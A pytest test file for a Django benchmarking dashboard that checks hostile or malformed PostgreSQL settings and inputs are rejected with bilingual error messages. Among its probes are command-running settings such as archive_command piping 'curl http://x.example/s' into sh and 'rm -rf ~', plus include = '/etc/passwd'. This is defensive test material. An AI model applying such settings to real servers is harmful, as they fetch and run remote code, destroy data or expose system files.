"""Bad input at /studies/new/, as someone with the permission "add study" could send it: every probe is
refused at its field with a message that says why, in English and in Japanese, and nothing is saved.

The probes are the table in docs/SECURITY.md; test_the_security_page_lists_every_probe keeps the two in step.
"""

import re
from html import unescape
from pathlib import Path

import pytest
from django.urls import reverse

from benchdash.inventory.models import Build
from benchdash.studies.models import Study, StudyPreset, Trial
from tests.factories import BuildFactory, HostFactory, ScenarioFactory
from tests.queue.support import form_data

pytestmark = pytest.mark.django_db

GIB = 2**30
SECURITY_MD = Path(__file__).resolve().parents[2] / "docs" / "SECURITY.md"
FIVE_THOUSAND_LINES = "\n".join(f"work_mem = {n}kB" for n in range(64, 5064))
MANY_LEVELS = ",".join(str(level) for level in range(1, 150))

# (probe, field, changes to a valid study, what the English message says)
PROBES = [
    # settings that hand the target over: commands, code, files, listening
    ("archive_command curl", "pg_settings", "archive_command = 'curl http://x.example/s | sh'", "runs a command"),
    ("archive_command rm", "pg_settings", "archive_command = 'rm -rf ~'", "runs a command"),
    ("restore_command", "pg_settings", "restore_command = 'cp /x/%f %p'", "runs a command"),
    ("archive_cleanup_command", "pg_settings", "archive_cleanup_command = 'sh -c id'", "runs a command"),
    ("recovery_end_command", "pg_settings", "recovery_end_command = 'id'", "runs a command"),
    ("ssl_passphrase_command", "pg_settings", "ssl_passphrase_command = 'sh -c id'", "runs a command"),
    ("shared_preload_libraries", "pg_settings", "shared_preload_libraries = 'pg_stat_statements'", "loads code"),
    ("local_preload_libraries", "pg_settings", "local_preload_libraries = '$libdir/plugins/x'", "loads code"),
    ("session_preload_libraries", "pg_settings", "session_preload_libraries = 'auto_explain'", "loads code"),
    ("dynamic_library_path", "pg_settings", "dynamic_library_path = '/tmp'", "loads code"),
    ("archive_library", "pg_settings", "archive_library = 'basic_archive'", "loads code"),
    ("jit_provider", "pg_settings", "jit_provider = '../../../tmp/x'", "loads code"),
    ("data_directory", "pg_settings", "data_directory = '/tmp/other'", "names a file or directory"),
    ("config_file", "pg_settings", "config_file = '/tmp/x.conf'", "names a file or directory"),
    ("hba_file", "pg_settings", "hba_file = '/tmp/hba.conf'", "names a file or directory"),
    ("ident_file", "pg_settings", "ident_file = '/tmp/ident.conf'", "names a file or directory"),
    ("external_pid_file", "pg_settings", "external_pid_file = '/tmp/x.pid'", "names a file or directory"),
    ("stats_temp_directory", "pg_settings", "stats_temp_directory = '/tmp'", "names a file or directory"),
    ("ssl_cert_file", "pg_settings", "ssl_cert_file = '/etc/ssl/x.pem'", "where the server listens"),
    ("include", "pg_settings", "include = '/etc/passwd'", "names a file or directory"),
    ("include_dir", "pg_settings", "include_dir = '/etc'", "names a file or directory"),
    ("log_directory absolute", "pg_settings", "log_directory = '/tmp'", "points outside the cluster"),
    ("log_directory dot-dot", "pg_settings", "log_directory = '../..'", "points outside the cluster"),
    ("log_filename dot-dot", "pg_settings", "log_filename = '../../x.log'", "points outside the cluster"),
    ("listen_addresses", "pg_settings", "listen_addresses = '*'", "where the server listens"),
    ("port", "pg_settings", "port = 5432", "where the server listens"),
    ("unix_socket_directories", "pg_settings", "unix_socket_directories = '/tmp'", "where the server listens"),
    ("unix_socket_permissions", "pg_settings", "unix_socket_permissions = 0777", "where the server listens"),
    ("unix_socket_group", "pg_settings", "unix_socket_group = 'users'", "where the server listens"),
    ("ssl", "pg_settings", "ssl = on", "where the server listens"),
    ("password_encryption", "pg_settings", "password_encryption = md5", "where the server listens"),
    ("krb_server_keyfile", "pg_settings", "krb_server_keyfile = '/tmp/k'", "where the server listens"),
    ("bonjour", "pg_settings", "bonjour = on", "where the server listens"),
    # names
    ("dotted name", "pg_settings", "pg_stat_statements.max = 1000", "extension library"),
    ("dotted name with quotes", "pg_settings", "my.'name' = 1", "is not a setting name"),
    ("dotted name with a space", "pg_settings", "my. name = 1", "is not a setting name"),
    ("misspelt name", "pg_settings", "shared_bufers = 128MB", "Unknown setting name: shared_bufers"),
    ("name unknown to one major", "pg_settings", "hash_mem_multiplier = 2", "PostgreSQL 10 has no setting named"),
    ("duplicate name", "pg_settings", "work_mem = 4MB\nwork_mem = 8MB", "work_mem is set twice (lines 1 and 2)"),
    ("duplicate in another case", "pg_settings", "work_mem = 4MB\nWORK_MEM = 8MB", "WORK_MEM is set twice"),
    ("5,000 lines", "pg_settings", FIVE_THOUSAND_LINES, "At most 20000 characters of settings"),
    ("line without =", "pg_settings", "shared_buffers 128MB", "is not 'name = value'"),
    ("unclosed quote", "pg_settings", "log_line_prefix = '%m [%p]", "is not 'name = value'"),
    # settings outside the allowlist
    ("text the server checks", "pg_settings", "log_timezone = 'Mars/Olympus'", "not among the settings a study"),
    ("cluster_name", "pg_settings", "cluster_name = 'x'", "not among the settings a study may change"),
    ("search_path", "pg_settings", "search_path = 'evil'", "not among the settings a study may change"),
    ("allow_system_table_mods", "pg_settings", "allow_system_table_mods = on", "not among the settings a study"),
    ("zero_damaged_pages", "pg_settings", "zero_damaged_pages = on", "not among the settings a study may change"),
    ("primary_conninfo", "pg_settings", "primary_conninfo = 'host=x.example'", "not among the settings a study"),
    ("block_size", "pg_settings", "block_size = 16384", "not among the settings a study may change"),
    # values the server refuses
    ("banana", "pg_settings", "shared_buffers = banana", "shared_buffers = banana: PostgreSQL 15 wants a number"),
    ("unknown unit", "pg_settings", "shared_buffers = 1PB", "optionally followed by a unit"),
    ("below the minimum", "pg_settings", "shared_buffers = 15", "accepts 128kB to"),
    ("negative size", "pg_settings", "work_mem = -5MB", "accepts 64kB to"),
    ("no connections", "pg_settings", "max_connections = 0", "max_connections = 0: PostgreSQL 15 accepts 1 to"),
    ("too many connections", "pg_settings", "max_connections = 300000", "accepts 1 to 262143"),
    ("too many processes", "pg_settings", "max_connections = 262140", "server processes"),
    ("too long a timeout", "pg_settings", "checkpoint_timeout = 2d", "accepts 30s to 1d"),
    ("nan", "pg_settings", "random_page_cost = nan", "random_page_cost = nan: PostgreSQL 15 wants a number"),
    ("not a boolean", "pg_settings", "enable_seqscan = maybe", "wants on or off"),
    ("not a choice", "pg_settings", "synchronous_commit = sometimes", "wants one of local, remote_write"),
    ("hidden alias", "pg_settings", "wal_level = archive", "wants one of minimal, replica, logical"),
    ("fullwidth size", "pg_settings", "shared_buffers = １２８MB", "wants a number"),
    ("hex", "pg_settings", "work_mem = 0x1000", "wants a number"),
    ("value too long", "pg_settings", "log_line_prefix = '" + "x" * 1001 + "'", "at most 1000 characters"),
    ("NUL in a value", "pg_settings", "log_line_prefix = 'a\x00b'", "Null characters are not allowed"),
    # client levels
    ("superscript two", "client_levels", "1,²", "² is not a positive whole number"),
    ("fullwidth digits", "client_levels", "１,２", "１ is not a positive whole number"),
    ("Arabic-Indic digits", "client_levels", "١,٢", "١ is not a positive whole number"),
    ("10^20 clients", "client_levels", "100000000000000000000", "is not a positive whole number"),
    ("3e9 clients", "client_levels", "3e9", "3e9 is not a positive whole number"),
    ("3,000,000,000 clients", "client_levels", "1,3000000000", "3000000000 is above max_connections"),
    ("149 levels", "client_levels", MANY_LEVELS, "At most 32 client levels, not 149"),
    ("zero clients", "client_levels", "1,0", "0 is not a positive whole number"),
    ("negative clients", "client_levels", "1,-2", "-2 is not a positive whole number"),
    ("fractional clients", "client_levels", "1,2.5", "2.5 is not a positive whole number"),
    ("empty level", "client_levels", "1,,2", '"" is not a positive whole number'),
    ("repeated level", "client_levels", "1,16,1", "1 is given twice"),
    ("above max_connections", "client_levels", "1,98", "98 is above max_connections less the reserved"),
    ("above the memory", "client_levels", "1,2000", "has memory for about 1024 clients"),
    # duration, repetitions, scale, seed, year, fillfactor
    ("a day's run", "duration_s", "86400", "At most 3000 s"),
    ("fullwidth duration", "duration_s", "１０", "written with the digits 0 to 9"),
    ("exponent duration", "duration_s", "1e3", "written with the digits 0 to 9"),
    ("decimal duration", "duration_s", "10.0", "written with the digits 0 to 9"),
    ("zero duration", "duration_s", "0", "greater than or equal to 1"),
    ("negative duration", "duration_s", "-5", "written with the digits 0 to 9"),
    ("superscript repetitions", "repetitions", "²", "written with the digits 0 to 9"),
    ("21 repetitions", "repetitions", "21", "less than or equal to 20"),
    ("scale on a small host", "scale", "100000", "needs about"),
    ("underscored scale", "scale", "1_000", "written with the digits 0 to 9"),
    ("Arabic-Indic scale", "scale", "٣", "written with the digits 0 to 9"),
    ("scale above pgbench's", "scale", "100001", "less than or equal to 100000"),
    ("seed 2^31", "seed", "2147483648", "less than or equal to 2147483647"),
    ("negative seed", "seed", "-1", "written with the digits 0 to 9"),
    ("fullwidth seed", "seed", "１", "written with the digits 0 to 9"),
    ("fullwidth year", "year", "２０２５", "written with the digits 0 to 9"),
    ("fillfactor 5", "fillfactor", "5", "greater than or equal to 10"),
    ("fullwidth fillfactor", "fillfactor", "８０", "written with the digits 0 to 9"),
    # builds
    ("published build", "builds", "PUBLISHED", "is a published figure"),
    ("major without a catalog", "builds", "NO_CATALOG", "no settings catalog for PostgreSQL 9"),
]


@pytest.fixture
def rows():
    facts = {"memory_bytes": 8 * GIB, "disk_free_bytes": 20 * GIB}
    local = HostFactory(name="local", address="", facts=facts)
    new = BuildFactory(name="pg15", version="15.20")
    old = BuildFactory(name="pg10", version="10.23", kind=Build.Kind.ARCHIVE, bin_dir="", archive_path="/x.tgz")
    reference = ScenarioFactory(slug="pgecons-reference", builtin="", script="SELECT 1;", reset="once")
    update = ScenarioFactory(slug="pgecons-update", builtin="", script="SELECT 1;", fillfactor=80, reset="trial")
    return {"local": local, "new": new, "old": old, "scenarios": [reference, update]}


def valid_data(rows) -> dict:
    builds, scenarios = [rows["new"], rows["old"]], rows["scenarios"]
    data = form_data(host=rows["local"], builds=builds, baseline=rows["old"], scenarios=scenarios, repetitions="3")
    return {**data, "pg_settings": "shared_buffers = 128MB\nmax_connections = 100", "seed": "7"}


def probe_data(rows, field: str, value: str) -> dict:
    data = valid_data(rows)
    if field == "builds":
        version = "13.4" if value == "PUBLISHED" else "9.6.24"
        kind = Build.Kind.PUBLISHED if value == "PUBLISHED" else Build.Kind.INSTALLED
        data["builds"] = [rows["new"].pk, BuildFactory(name=value, version=version, kind=kind).pk]
        data["baseline"] = rows["new"].pk
    elif field == "client_levels" and value == "1,2000":
        data.update(client_levels=value, pg_settings="max_connections = 5000")
    else:
        data[field] = value
    return data


def post(client, data: dict, language: str):
    return client.post(reverse("studies:new"), data, HTTP_ACCEPT_LANGUAGE=language)


def test_the_valid_study_of_the_probes_is_queued(client, member, rows):
    response = post(client, valid_data(rows), "en")
    assert response.status_code == 302
    assert Study.objects.get().trials.count() == 2 * 2 * 2 * 3


JAPANESE = re.compile(r"[\u3040-\u30ff\u4e00-\u9fff]")


def shown_errors(response, field: str) -> list[str]:
    """The errors the page shows under the field, as rendered in the response's language."""
    page = response.content.decode()
    row = re.search(rf'id="row-{field}".*?(?=<div class="form-row|<div class="actions")', page, re.S).group(0)
    return [unescape(text) for text in re.findall(r'<p class="field-error" role="alert">(.*?)</p>', row, re.S)]


# One test a probe: its English page is both checked and compared with its Japanese page.
@pytest.mark.parametrize(("probe", "field", "value", "message"), PROBES, ids=[probe[0] for probe in PROBES])
def test_each_probe_is_refused_at_its_field_with_its_reason_in_both_languages_and_saves_nothing(
    client, member, rows, probe, field, value, message
):
    data = probe_data(rows, field, value)
    response = post(client, data, "en")
    assert response.status_code == 200
    errors = response.context["form"].errors
    assert field in errors, errors
    assert message in " ".join(errors[field])
    english = shown_errors(response, field)
    assert any(message in text for text in english)

    japanese = shown_errors(post(client, data, "ja"), field)
    assert len(japanese) == len(english)
    assert all(JAPANESE.search(text) and text != in_english for text, in_english in zip(japanese, english, strict=True))
    assert (Study.objects.count(), Trial.objects.count()) == (0, 0)


def test_a_preset_id_in_other_digits_is_ignored_not_a_crash(client, member, rows):
    StudyPreset.objects.create(slug="p", name="p", client_levels=[1, 2], pg_settings={})
    data = {**valid_data(rows), "client_levels": "", "client_preset": "²", "settings_preset": "１"}
    response = post(client, data, "en")
    assert response.status_code == 200
    assert "client_levels" in response.context["form"].errors


def test_the_security_page_lists_every_probe():
    page = SECURITY_MD.read_text(encoding="utf-8")
    missing = [probe for probe, *_ in PROBES if f"| {probe} |" not in page]
    assert missing == []
